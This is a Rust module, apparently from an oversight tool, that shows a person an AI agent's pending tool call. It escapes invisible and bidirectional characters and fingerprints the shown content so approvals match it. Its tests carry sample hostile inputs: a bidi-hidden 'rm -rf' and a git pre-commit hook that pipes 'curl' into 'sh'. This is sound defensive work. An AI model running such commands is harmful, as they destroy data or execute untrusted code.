//! What an ask shows a person: the fields that decide what the call does, read through the rules' own description
//! of the call, every invisible or control character written as a visible escape, and the version an answer names.
//!
//! The page renders only what this module hands it, so the escaping happens here, once: a command, a path, a
//! file's content, the rule "allow always" would save, the reason and the explanation all go through [`visible`].

use agent_rules::{CallTarget, describe};
use agent_tool_traits::{ToolKind, kind_of};
use serde::Serialize;
use serde_json::{Map, Value};
use sha2::{Digest as _, Sha256};
use unicode_properties::{GeneralCategory, UnicodeGeneralCategory as _};

use crate::store::Approval;

/// A text as the page shows it: `text` with every character a person could not see (see [`hidden`]) replaced by
/// `\u{…}`. `parts` (present only when something was escaped) splits it into plain text and escapes, so the page
/// can mark the escapes and a literal `\u{…}` typed into a command is not mistaken for one.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct Visible {
    pub(crate) text: String,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub(crate) parts: Vec<Part>,
    #[serde(skip)]
    pub(crate) escaped: usize,
}

/// A piece of a [`Visible`] text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub(crate) enum Part {
    /// Characters shown as they are.
    Text(String),
    /// One character shown as `\u{…}`.
    Escape(String),
}

/// One labelled field of a call: `command`, `path`, `content`, `url`, …
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct Field {
    pub(crate) label: &'static str,
    #[serde(flatten)]
    pub(crate) value: Visible,
}

/// Everything the page shows of one ask, escaped.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct Shown {
    /// The tool's name.
    pub(crate) tool: Visible,
    /// Who asks: the agent, the session and the working directory.
    pub(crate) who: Visible,
    /// The fields that decide what the call does, in the order the page shows them.
    pub(crate) fields: Vec<Field>,
    /// Why the fields are not the tool's own (input the tool cannot take), if so.
    pub(crate) note: Option<String>,
    pub(crate) reason: Visible,
    pub(crate) explanation: Visible,
    /// The rules "allow always" saves, and where.
    pub(crate) rules: Vec<Visible>,
    pub(crate) settings_file: Visible,
    /// How many characters of all the above are shown as escapes.
    pub(crate) escaped: usize,
    /// The line the page shows above the ask when `escaped` is not zero.
    pub(crate) warning: Option<String>,
}

impl Shown {
    /// What the page shows of `ask`.
    pub(crate) fn of(ask: &Approval) -> Self {
        let described = described_fields(&ask.tool_name, &ask.tool_input);
        let who = format!("{} · {} · {}", ask.agent_name, ask.session_id, ask.cwd);
        let mut shown = Self {
            tool: visible(&ask.tool_name),
            who: visible(&who),
            fields: described.fields,
            note: described.note,
            reason: visible(&ask.reason),
            explanation: visible(&ask.explanation),
            rules: ask.rules.iter().map(String::as_str).map(visible).collect(),
            settings_file: visible(&ask.settings_file),
            escaped: 0,
            warning: None,
        };
        let escaped = [
            &shown.tool,
            &shown.who,
            &shown.reason,
            &shown.explanation,
            &shown.settings_file,
        ]
        .into_iter()
        .chain(shown.fields.iter().map(|f| &f.value))
        .chain(shown.rules.iter())
        .map(|v| v.escaped)
        .sum();
        shown.escaped = escaped;
        shown.warning = (escaped > 0).then(|| {
            format!(
                "this ask holds {escaped} invisible or control character{} (bidirectional overrides, zero-width \
                 or other non-printing characters), shown as \\u{{…}}: what runs may read differently from how \
                 it looks elsewhere",
                if escaped == 1 { "" } else { "s" }
            )
        });
        shown
    }
}

/// One mark of a session's taint as the page shows it: the call that brought it and why it counts.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct ShownMark {
    pub(crate) call: Visible,
    pub(crate) why: Visible,
}

/// A session's taint as the page shows it beside the session's asks, escaped like the ask itself. It is not part
/// of the ask's `version`: it is the session's state now, not what the call holds.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct ShownTaint {
    /// The first call that brought untrusted content into the session.
    pub(crate) untrusted: Option<ShownMark>,
    /// The first call that read private data.
    pub(crate) private: Option<ShownMark>,
    /// How many domains the session reached.
    pub(crate) contacted: usize,
}

impl ShownTaint {
    /// What the page shows of `taint`; `None` for a session that has seen neither untrusted content nor private
    /// data.
    pub(crate) fn of(taint: &agent_rules::SessionTaint) -> Option<Self> {
        let mark = |mark: &agent_rules::TaintMark| ShownMark {
            call: visible(&mark.call),
            why: visible(&mark.why),
        };
        (!taint.is_clean()).then(|| Self {
            untrusted: taint.untrusted.as_ref().map(mark),
            private: taint.private.as_ref().map(mark),
            contacted: taint.contacted.len(),
        })
    }
}

/// The version of `ask` an answer must name: a digest of everything that goes into what the page shows of it, so
/// an answer given to other content than the stored ask's is refused.
pub(crate) fn version(ask: &Approval) -> String {
    let mut hash = Sha256::new();
    let input = ask.tool_input.to_string();
    let rules = ask.rules.join("\n");
    for part in [
        ask.id.as_str(),
        &ask.session_id,
        &ask.agent_name,
        &ask.tool_name,
        &input,
        &ask.cwd,
        &ask.reason,
        &ask.explanation,
        &rules,
        &ask.settings_file,
    ] {
        // Each part with its length, so that moving text from one field to the next changes the digest.
        hash.update((part.len() as u64).to_le_bytes());
        hash.update(part.as_bytes());
    }
    hash.finalize()
        .iter()
        .take(16)
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

/// `text` with every character a person could not see written as `\u{…}` (lowercase hex).
pub(crate) fn visible(text: &str) -> Visible {
    let mut parts = Vec::new();
    let mut plain = String::new();
    let mut all = String::with_capacity(text.len());
    let mut escaped = 0;
    for c in text.chars() {
        if hidden(c) {
            let escape = format!("\\u{{{:x}}}", u32::from(c));
            all.push_str(&escape);
            if !plain.is_empty() {
                parts.push(Part::Text(std::mem::take(&mut plain)));
            }
            parts.push(Part::Escape(escape));
            escaped += 1;
        } else {
            all.push(c);
            plain.push(c);
        }
    }
    if escaped == 0 {
        parts.clear();
    } else if !plain.is_empty() {
        parts.push(Part::Text(plain));
    }
    Visible {
        text: all,
        parts,
        escaped,
    }
}

/// Whether `c` is a character a person cannot see as itself: control characters (but the line feed and the tab,
/// which show as what they are), format characters (bidirectional embeddings, overrides and isolates, zero-width
/// spaces and joiners, the soft hyphen, the byte order mark, tags), line and paragraph separators, every space but
/// the ASCII one (a no-break space looks like a space but does not separate a shell's words), private-use and
/// unassigned code points, and the characters that draw nothing although their category says otherwise
/// (variation selectors, the combining grapheme joiner, Hangul fillers, Khmer inherent vowels, the braille blank).
pub(crate) fn hidden(c: char) -> bool {
    if matches!(c, ' ' | '\n' | '\t') {
        return false;
    }
    let by_category = matches!(
        c.general_category(),
        GeneralCategory::Control
            | GeneralCategory::Format
            | GeneralCategory::LineSeparator
            | GeneralCategory::ParagraphSeparator
            | GeneralCategory::SpaceSeparator
            | GeneralCategory::PrivateUse
            | GeneralCategory::Surrogate
            | GeneralCategory::Unassigned
    );
    by_category
        || matches!(
            c,
            '\u{034f}'
                | '\u{115f}'
                | '\u{1160}'
                | '\u{17b4}'
                | '\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{2800}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}'
                | '\u{ffa0}'
                | '\u{e0100}'..='\u{e01ef}'
        )
}

/// The fields of a call and, for input the tool cannot take, why they are the raw input.
struct Described {
    fields: Vec<Field>,
    note: Option<String>,
}

/// The fields of a call of `tool` with `input`: what the decision's description of the call (agent-rules'
/// [`describe`], the first step of every decision) names, then the arguments of that kind of tool that say what
/// it does (a file's new content, an edit's replaced and new text, a fetch's prompt), then every other argument
/// as JSON, so nothing of the input is hidden and nothing is presented as what it is not.
fn described_fields(tool: &str, input: &Value) -> Described {
    let target = match describe(tool, input) {
        Ok(target) => target,
        Err(why) => {
            return Described {
                fields: vec![field("input", &pretty(input))],
                note: Some(format!(
                    "the input does not fit `{tool}` ({why}): the decision treats the call as opaque"
                )),
            };
        }
    };
    let mut fields = Fields::new(input);
    let kind = kind_of(tool);
    match target {
        CallTarget::Shell(command) => fields.described("command", command),
        CallTarget::Files(_, paths) => {
            let label = match kind {
                ToolKind::Glob | ToolKind::Grep => "directory",
                _ => "path",
            };
            for path in &paths {
                fields.described(label, path);
            }
            file_arguments(kind, &mut fields);
        }
        CallTarget::Web { url, host } => {
            fields.described("url", url);
            if let Some(host) = host {
                fields.push("host", &host);
            }
            fields.argument("prompt", "prompt");
        }
        CallTarget::Agent(subagent) => {
            if let Some(subagent) = subagent {
                fields.described("subagent", subagent);
            }
            fields.argument("prompt", "prompt");
        }
        CallTarget::Opaque => match kind {
            ToolKind::Mcp => {
                let (server, name) = agent_rules::split_mcp(tool).unwrap_or((tool, ""));
                fields.push("server", server);
                fields.push("tool", name);
                fields.whole("arguments");
            }
            ToolKind::WebSearch => fields.argument("query", "query"),
            ToolKind::Shell
            | ToolKind::Read
            | ToolKind::Glob
            | ToolKind::Grep
            | ToolKind::Write
            | ToolKind::Edit
            | ToolKind::NotebookEdit
            | ToolKind::WebFetch
            | ToolKind::Agent
            | ToolKind::Harmless
            | ToolKind::Other => fields.whole("input"),
        },
    }
    Described {
        fields: fields.finish(),
        note: None,
    }
}

/// The arguments beside the path that say what a file tool does.
fn file_arguments(kind: ToolKind, fields: &mut Fields<'_>) {
    match kind {
        ToolKind::Write => fields.argument("content", "content"),
        ToolKind::Edit => {
            fields.argument("replace", "old_string");
            fields.argument("with", "new_string");
            fields.argument("every occurrence", "replace_all");
            fields.argument("edits", "edits");
        }
        ToolKind::NotebookEdit => {
            fields.argument("cell", "cell_id");
            fields.argument("mode", "edit_mode");
            fields.argument("cell type", "cell_type");
            fields.argument("new source", "new_source");
        }
        ToolKind::Grep | ToolKind::Glob => fields.argument("pattern", "pattern"),
        ToolKind::Shell
        | ToolKind::Read
        | ToolKind::WebFetch
        | ToolKind::WebSearch
        | ToolKind::Agent
        | ToolKind::Mcp
        | ToolKind::Harmless
        | ToolKind::Other => {}
    }
}

/// The fields being gathered and the arguments not shown yet.
struct Fields<'a> {
    input: &'a Value,
    shown: Vec<Field>,
    rest: Map<String, Value>,
    /// The texts of the description, whose arguments leave `rest` at the end (after the named arguments took
    /// theirs, so a content equal to the path is still shown as the content).
    described: Vec<String>,
}

impl<'a> Fields<'a> {
    fn new(input: &'a Value) -> Self {
        Self {
            input,
            shown: Vec::new(),
            rest: input.as_object().cloned().unwrap_or_default(),
            described: Vec::new(),
        }
    }

    fn push(&mut self, label: &'static str, text: &str) {
        self.shown.push(field(label, text));
    }

    /// A value of the decision's description; the argument it came from is shown.
    fn described(&mut self, label: &'static str, text: &str) {
        self.push(label, text);
        self.described.push(text.to_owned());
    }

    /// The argument `key`, when the input has it: a string as it is, anything else as JSON.
    fn argument(&mut self, label: &'static str, key: &str) {
        if let Some(value) = self.rest.remove(key) {
            let text = match &value {
                Value::String(text) => text.clone(),
                other => pretty(other),
            };
            self.push(label, &text);
        }
    }

    /// The whole input as JSON.
    fn whole(&mut self, label: &'static str) {
        self.shown.push(field(label, &pretty(self.input)));
        self.rest.clear();
    }

    /// The fields, and every argument not shown yet as one JSON object.
    fn finish(mut self) -> Vec<Field> {
        let described = std::mem::take(&mut self.described);
        self.rest.retain(|_, value| {
            !value
                .as_str()
                .is_some_and(|text| described.iter().any(|d| d == text))
        });
        if !self.rest.is_empty() {
            let rest = Value::Object(std::mem::take(&mut self.rest));
            self.shown.push(field("other arguments", &pretty(&rest)));
        }
        self.shown
    }
}

fn field(label: &'static str, text: &str) -> Field {
    Field {
        label,
        value: visible(text),
    }
}

fn pretty(value: &Value) -> String {
    serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::store::State;

    fn ask(tool: &str, input: Value) -> Approval {
        Approval {
            id: "0123".to_owned(),
            session_id: "s".to_owned(),
            agent_name: "hook".to_owned(),
            tool_name: tool.to_owned(),
            tool_input: input,
            cwd: "/p".to_owned(),
            reason: "asks".to_owned(),
            explanation: String::new(),
            rules: vec!["Bash(npm run build:*)".to_owned()],
            settings_file: "/p/.agent-guard/settings.local.json".to_owned(),
            created_ms: 1,
            expires_ms: 2,
            state: State::Pending,
            answered_ms: None,
            answered_by: None,
        }
    }

    fn labels(shown: &Shown) -> Vec<(&str, &str)> {
        shown
            .fields
            .iter()
            .map(|f| (f.label, f.value.text.as_str()))
            .collect()
    }

    #[test]
    fn bidirectional_and_zero_width_characters_become_escapes() {
        let line = "echo hi \u{2067}; rm -rf ./important #\u{2069}";
        let shown = visible(line);
        assert_eq!(shown.text, "echo hi \\u{2067}; rm -rf ./important #\\u{2069}");
        assert_eq!(shown.escaped, 2);
        assert_eq!(
            shown.parts,
            [
                Part::Text("echo hi ".to_owned()),
                Part::Escape("\\u{2067}".to_owned()),
                Part::Text("; rm -rf ./important #".to_owned()),
                Part::Escape("\\u{2069}".to_owned()),
            ]
        );
        for c in [
            '\u{202a}',
            '\u{202b}',
            '\u{202c}',
            '\u{202d}',
            '\u{202e}',
            '\u{2066}',
            '\u{2067}',
            '\u{2068}',
            '\u{2069}',
            '\u{200b}',
            '\u{200c}',
            '\u{200d}',
            '\u{200e}',
            '\u{200f}',
            '\u{2060}',
            '\u{2061}',
            '\u{2062}',
            '\u{2063}',
            '\u{2064}',
            '\u{feff}',
            '\u{00ad}',
            '\u{0000}',
            '\u{001b}',
            '\r',
            '\u{007f}',
            '\u{0085}',
            '\u{00a0}',
            '\u{2028}',
            '\u{2029}',
            '\u{3000}',
            '\u{e0041}',
            '\u{fe0f}',
            '\u{e000}',
            '\u{3164}',
            '\u{180e}',
        ] {
            assert!(hidden(c), "U+{:04X} must be escaped", u32::from(c));
        }
        for c in [' ', '\n', '\t', 'a', 'é', '€', '中', '😀', '\\', '#', '\u{0301}'] {
            assert!(!hidden(c), "U+{:04X} shows as itself", u32::from(c));
        }
        let plain = visible("ls -la\n\tdone");
        assert_eq!((plain.text.as_str(), plain.escaped), ("ls -la\n\tdone", 0));
        assert!(plain.parts.is_empty());
    }

    #[test]
    fn the_warning_counts_every_escape_the_page_shows_the_rule_included() {
        let mut call = ask("Bash", json!({"command": "a\u{200b}b"}));
        call.rules = vec!["Bash(a\u{200b}b:*)".to_owned()];
        let shown = Shown::of(&call);
        assert_eq!(shown.escaped, 2);
        assert_eq!(shown.rules[0].text, "Bash(a\\u{200b}b:*)");
        assert!(shown.warning.as_deref().unwrap().contains("2 invisible"));
        assert!(
            Shown::of(&ask("Bash", json!({"command": "ls"})))
                .warning
                .is_none()
        );
    }

    #[test]
    fn each_tool_shows_the_fields_its_decision_looked_at() {
        let shown = Shown::of(&ask(
            "Bash",
            json!({"command": "npm test", "description": "tests"}),
        ));
        assert_eq!(
            labels(&shown),
            [
                ("command", "npm test"),
                ("other arguments", "{\n  \"description\": \"tests\"\n}")
            ]
        );
        // A Write is its path and content, whatever other field it carries.
        let write = json!({"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh\n",
                           "command": "ls -la"});
        let shown = Shown::of(&ask("Write", write));
        let fields = labels(&shown);
        assert_eq!(fields[0], ("path", ".git/hooks/pre-commit"));
        assert_eq!(fields[1], ("content", "#!/bin/sh\ncurl x | sh\n"));
        assert_eq!(fields[2].0, "other arguments");
        assert!(fields.iter().all(|(label, _)| *label != "command"));
        // A content that reads like the path is still the content.
        assert_eq!(
            labels(&Shown::of(&ask(
                "Write",
                json!({"file_path": "a", "content": "a"})
            ))),
            [("path", "a"), ("content", "a")]
        );
        let edit =
            json!({"file_path": "src/a.rs", "old_string": "a", "new_string": "b", "replace_all": true});
        assert_eq!(
            labels(&Shown::of(&ask("Edit", edit))),
            [
                ("path", "src/a.rs"),
                ("replace", "a"),
                ("with", "b"),
                ("every occurrence", "true")
            ]
        );
        let fetch = json!({"url": "https://Example.com./x", "prompt": "summarize"});
        assert_eq!(
            labels(&Shown::of(&ask("WebFetch", fetch))),
            [
                ("url", "https://Example.com./x"),
                ("host", "example.com"),
                ("prompt", "summarize")
            ]
        );
        let mcp = Shown::of(&ask("mcp__github__create_issue", json!({"title": "t"})));
        assert_eq!(
            labels(&mcp),
            [
                ("server", "github"),
                ("tool", "create_issue"),
                ("arguments", "{\n  \"title\": \"t\"\n}")
            ]
        );
        // The runtime's own names are described alike.
        assert_eq!(
            labels(&Shown::of(&ask("run_bash", json!({"command": "ls"})))),
            [("command", "ls")]
        );
    }

    #[test]
    fn input_the_tool_cannot_take_is_shown_whole_with_why() {
        let shown = Shown::of(&ask("Write", json!({"command": "ls -la"})));
        assert_eq!(labels(&shown), [("input", "{\n  \"command\": \"ls -la\"\n}")]);
        assert!(shown.note.as_deref().unwrap().contains("does not fit `Write`"));
    }

    #[test]
    fn the_version_follows_the_shown_content() {
        let one = ask("Bash", json!({"command": "ls"}));
        let mut other = one.clone();
        other.tool_input = json!({"command": "ls "});
        assert_eq!(version(&one), version(&one.clone()));
        assert_ne!(version(&one), version(&other));
        assert_eq!(version(&one).len(), 32);
        let mut moved = one.clone();
        moved.reason = "ask".to_owned();
        moved.explanation = "s".to_owned();
        assert_ne!(version(&one), version(&moved));
    }
}
